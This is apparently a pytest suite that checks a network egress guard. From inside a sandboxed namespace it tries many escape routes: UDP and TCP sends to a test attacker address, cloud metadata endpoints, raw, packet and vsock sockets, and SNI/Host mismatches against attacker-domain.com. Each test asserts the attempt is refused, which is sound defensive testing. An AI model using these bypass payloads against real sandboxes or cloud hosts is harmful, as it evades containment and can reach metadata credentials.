"""Ways past the wall, tried from inside a guard in a namespace of its own. The link's capture must stay empty."""

import pytest

from helpers import AUTH, STRIPE, audit, curl, head, nothing_leaked, raw, raw_reason, reason
from lab import LINKS, TRAPS

V4, V6, OWN = "203.0.113.66", "2001:db8:1:2::66", LINKS["pod"][0][0].split("/")[0]
TO4, TO6 = f"({V4!r}, 9999)", f"({V6!r}, 9999)"
ANY = "socket.socket(socket.AF_INET, socket.SOCK_DGRAM)"

# Python statements; each must end in an OSError or send nothing.
WAYS = {
    "udp sendto": f"{ANY}.sendto(b'leak', {TO4})",
    "udp connect, send": f"s = {ANY}; s.connect({TO4}); s.send(b'leak')",
    "udp sendmsg": f"{ANY}.sendmsg([b'leak'], [], 0, {TO4})",
    "udp v6": f"socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'leak', {TO6})",
    "udp v4-mapped": f"socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'leak', ('::ffff:{V4}', 9999))",
    "udp to metadata": f"{ANY}.sendto(b'leak', ('169.254.169.254', 80))",
    "udp bound to the link": f"s = {ANY}; s.bind(({OWN!r}, 0)); s.sendto(b'leak', {TO4})",
    "udp SO_BINDTODEVICE": f"s = {ANY}; s.setsockopt(1, 25, b'up0'); s.sendto(b'leak', {TO4})",
    "udp source by cmsg": f"{ANY}.sendmsg([b'leak'], [(0, 8, struct.pack('=I4s4s', 0, socket.inet_aton({OWN!r}), b'\\0' * 4))], 0, {TO4})",
    "udp broadcast": f"s = {ANY}; s.setsockopt(1, 6, 1); s.sendto(b'leak', ('198.51.100.255', 9999))",
    "udp multicast": f"{ANY}.sendto(b'leak', ('224.0.0.251', 5353))",
    "udp multicast v6": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'leak', ('ff02::fb%up0', 5353))",
    "udp link-local v6": "socket.socket(socket.AF_INET6, socket.SOCK_DGRAM).sendto(b'leak', ('fe80::1%up0', 9999))",
    "tcp fast open": f"socket.socket(socket.AF_INET, socket.SOCK_STREAM).sendto(b'leak', 0x20000000, ('169.254.169.254', 80))",
    "tcp private": "socket.create_connection(('10.0.1.5', 80), 2)",
    "tcp metadata": "socket.create_connection(('169.254.169.254', 80), 2)",
    "tcp metadata v6": "socket.create_connection(('fd00:ec2::254', 80), 2)",
    "tcp metadata v4-mapped": "socket.create_connection(('::ffff:169.254.169.254', 80), 2)",
    "tcp NAT64 of metadata": "socket.create_connection(('64:ff9b::a9fe:a9fe', 80), 2)",
    "tcp own loopback": "socket.create_connection(('127.0.0.1', 22), 2)",
    "tcp the machine's own address": f"s = socket.create_connection(({OWN!r}, 22), 2); assert not s.recv(9); raise OSError('the proxy closed it')",
    "raw icmp": f"socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ({V4!r}, 0))",
    "ping socket": f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 1).sendto(b'\\x08\\0\\xf7\\xff\\0\\0\\0\\0', ({V4!r}, 0))",
    "raw ip": f"s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 255); s.sendto(b'leak', ({V4!r}, 0))",
    "packet socket": "s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, 3); s.bind(('up0', 0)); s.send(b'\\xff' * 12 + b'\\x88\\xb5leak' + b'\\0' * 60)",
    "sctp": f"socket.socket(socket.AF_INET, socket.SOCK_STREAM, 132).connect({TO4})",
    "mptcp": f"s = socket.socket(socket.AF_INET, socket.SOCK_STREAM, 262); s.settimeout(2); s.connect(('10.0.1.5', 80))",
    "udplite": f"socket.socket(socket.AF_INET, socket.SOCK_DGRAM, 136).sendto(b'leak', {TO4})",
    "vsock": "socket.socket(40, socket.SOCK_STREAM).connect((2, 9999))",
    "netlink": "s = socket.socket(16, socket.SOCK_RAW, 0); s.bind((0, 0)); s.close(); raise OSError('only looked')",
    "connect again": f"s = {ANY}; s.connect({TO4}); s.connect(('10.0.1.5', 9999)); s.send(b'leak')",
}


@pytest.mark.parametrize("name", WAYS)
def test_way_past(world, name):
    """Root inside the guard tries; nothing may appear on its link and no trap may hear of it."""
    capture = world.captures["pod"]
    capture.mark()
    code = f"import socket, struct\ntry:\n    exec({WAYS[name]!r})\n    print('no error')\nexcept OSError as e:\n    print('refused', e)\n"
    p = world.agent("/usr/bin/python3", "-c", code, ns="pod")
    assert p.stdout, p.stderr
    assert capture.packets() == []
    nothing_leaked(world)
    if not name.startswith("udp connect") and name != "connect again":
        assert p.stdout.startswith("refused"), p.stdout


def test_udp_says_so(world):
    d = world.daemons[0]
    p = world.agent("/usr/bin/python3", "-c", f"import socket\n{ANY}.sendto(b'x', {TO4})", ns="pod")
    assert "PermissionError" in p.stderr, p.stderr
    audit(d, reason="udp_blocked")


def test_kernel_refusal_is_in_the_log(world):
    d = world.daemons[0]
    world.agent("curl", "-sS", "http://10.0.1.5/", ns="pod")
    lines = audit(d, reason="ssrf_protection_blocked")
    assert any(line.get("pid") for line in lines)


# ---- what reaches the proxy and is refused there ----

@pytest.mark.parametrize("sni,host", [("api.stripe.com", "attacker-domain.com"), ("attacker-domain.com", "api.stripe.com"),
                                      ("api.stripe.com", "api.openai.com"), ("attacker-domain.com", "attacker-domain.com")])
def test_sni_and_host(world, sni, host):
    before = len(world.requests())
    status, why = raw_reason(raw(world, "api.stripe.com", 443, sni, head(host), ns="pod"))
    assert status == "403" and why in ("sni_host_mismatch", "domain_not_in_allowlist"), (status, why)
    assert len(world.requests()) == before
    nothing_leaked(world)


def test_address_of_another(world):
    """An allowed name in SNI and Host, but dialled at the attacker's address: goes where the name leads."""
    before = world.requests(host="api.stripe.com")
    answer = raw(world, V4, 443, "api.stripe.com", head("api.stripe.com", "/v1/invoices", AUTH[1]), ns="pod")
    nothing_leaked(world)
    assert "leaked" not in answer
    if " 200 " in answer.split("\r\n")[0]:
        assert world.wait_requests(len(before) + 1, host="api.stripe.com")[-1]["addr"] != V4


def test_no_sni(world):
    answer = raw(world, "203.0.113.10", 443, "-", head("api.stripe.com", "/", AUTH[1]), ns="pod")
    status, why = raw_reason(answer)
    assert (status, why) == ("403", "sni_missing") or status == "0", answer
    nothing_leaked(world)


def test_https_by_address(world):
    status, body, p = curl(world, "https://203.0.113.66/", "-k", *AUTH, ns="pod")
    assert status in (0, 403) and "leaked" not in body, (status, body, p.stderr)
    nothing_leaked(world)


@pytest.mark.parametrize("hello", [b"SSH-2.0-OpenSSH_9\r\n", b"\x16\x03\x01\xff\xff" + b"\0" * 100, b"\x00" * 64, b"GET\n", b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n",
                                   b"EHLO x\r\n", b"*1\r\n$4\r\nPING\r\n"], ids=repr)
def test_not_http(world, hello):
    answer = raw(world, "203.0.113.66", 9999, None, hello.decode("latin-1").encode("latin-1"), ns="pod")
    assert "leaked" not in answer
    nothing_leaked(world)


def test_plain_http_without_reference_to_unlisted(world):
    status, body, _ = curl(world, "http://attacker-domain.com/", ns="pod")
    assert (status, reason(body)) == (403, "domain_not_in_allowlist")
    nothing_leaked(world)


def test_wrong_certificate(world):
    """An upstream that cannot prove its name gets no request."""
    d = world.daemons[0]
    reads = d.reads()
    status, body, p = curl(world, "https://wrong-name.lab-host.com/")
    assert status == 502, (status, body, p.stderr)
    assert "never" not in body and d.reads() == reads


def test_redirect_is_the_clients_to_follow(world):
    status, body, _ = curl(world, "https://files.lab-host.com/redirect")
    assert status == 302, body
    status, body, _ = curl(world, "https://files.lab-host.com/redirect", "-L")
    assert (status, reason(body)) == (403, "domain_not_in_allowlist")
    nothing_leaked(world)


@pytest.mark.parametrize("host,want", [("a.wild-host.com", 200), ("b.a.wild-host.com", 200), ("wild-host.com", 403)])
def test_wildcard(world, host, want):
    status, body, p = curl(world, f"https://{host}/")
    assert status == want, (status, body, p.stderr)


def test_keep_alive_is_judged_each_time(world):
    """Three requests on one connection: allowed, refused, and what follows is not confused."""
    requests = (head("files.lab-host.com", "/hello", close=False) + head("api.stripe.com", "/", AUTH[1], close=False)
                + head("files.lab-host.com", "/hello"))
    answer = raw(world, "files.lab-host.com", 443, "files.lab-host.com", requests)
    assert answer.startswith("HTTP/1.1 200") and "hello" in answer and "sni_host_mismatch" in answer, answer


def test_head_and_no_content(world):
    p = world.agent("curl", "-sS", "-m", "10", "-I", "https://files.lab-host.com/hello")
    assert p.stdout.startswith("HTTP/2 200"), (p.stdout, p.stderr)
    status, body, _ = curl(world, "https://files.lab-host.com/empty")
    assert (status, body) == (204, "")


def test_traps_stayed_silent(world):
    """After everything above."""
    assert world.leaks() == []
    for name in LINKS:
        assert world.captures[name].to(*TRAPS) == []
    status, _, _ = curl(world, STRIPE, *AUTH)
    assert status == 200
